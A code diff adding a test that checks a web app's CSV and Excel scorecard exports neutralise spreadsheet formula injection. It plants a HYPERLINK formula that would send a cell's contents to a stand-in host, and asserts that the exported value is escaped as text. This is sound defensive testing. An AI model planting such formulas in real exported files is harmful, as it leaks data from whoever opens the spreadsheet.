@@ -261,3 +261,22 @@ def test_the_measures_page_lists_the_catalogue_with_its_published_indicators(
 
 def test_signed_out_people_cannot_read_the_measures(client):
     assert client.get("/performance/measures/").status_code == 302
+
+
+def test_exports_neutralise_text_a_spreadsheet_would_run(published, client_as, people):
+    from smeaton.web.performance.models import Area
+
+    formula = '=HYPERLINK("http://example.com/?"&A1,"Click")'
+    Area.objects.filter(name="South West").update(name=formula)
+    client = client_as(people[Role.VIEWER])
+    rows = scorecard_csv(client)
+    assert rows["Children in care per 10,000"]["Region name"] == "'" + formula
+    assert rows["Children in care per 10,000"]["Region"] == "62"
+    sheet = load_workbook(io.BytesIO(client.get("/performance/scorecard.xlsx").content)).active
+    headings = [cell.value for cell in sheet[4]]
+    cells = {sheet.cell(row, 1).value: sheet.cell(row, headings.index("Region name") + 1)
+             for row in range(5, sheet.max_row + 1)}
+    region = cells["Children in care per 10,000"]
+    assert (region.value, region.data_type) == ("'" + formula, "s")
+    figure = sheet.cell(region.row, headings.index("Region") + 1)
+    assert (figure.value, figure.data_type) == (62, "n")
